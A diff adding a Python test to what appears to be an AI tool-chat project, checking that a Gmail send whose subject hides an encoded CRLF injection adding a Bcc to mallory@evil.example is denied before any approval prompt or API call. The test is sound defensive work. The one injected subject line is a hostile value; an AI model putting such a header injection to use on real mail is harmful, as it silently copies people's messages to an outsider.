@@ -56,6 +56,24 @@ async def test_sending_asks_each_time_whatever_the_policy_and_the_answers_before
     assert_nowhere(google.issued, turn, alone, str(calls))
 
 
+@pytest.mark.defect("F3")
+async def test_nobody_is_asked_about_a_mail_that_would_hide_something(google: Google, sign_in: Any) -> None:
+    sign_in("gmail-send")
+    asked: list[ApprovalRequest] = []
+
+    async def person(request: ApprovalRequest) -> Decision:
+        asked.append(request)
+        return Decision(True)
+
+    hidden = MAIL | {"subject": "=?utf-8?q?Minutes=0D=0ABcc:_mallory=40evil.example?="}
+    async with McpToolChat.from_config({"servers": {"gmail": {"bundled": "gmail"}}}, approver=person) as chat:
+        turn = await ask(chat, call("gmail__gmail_send", **hidden), "done")
+    assert [each.status for each in turn.steps[0].tool_calls] == ["denied"]
+    assert "=?" in turn.steps[0].tool_calls[0].result
+    assert not asked
+    assert not google.calls
+
+
 def test_the_question_shows_all_recipients_and_the_whole_text_and_is_answered_for_one_call() -> None:
     from casual_mcp_nb.types.tool import ToolSpec
 
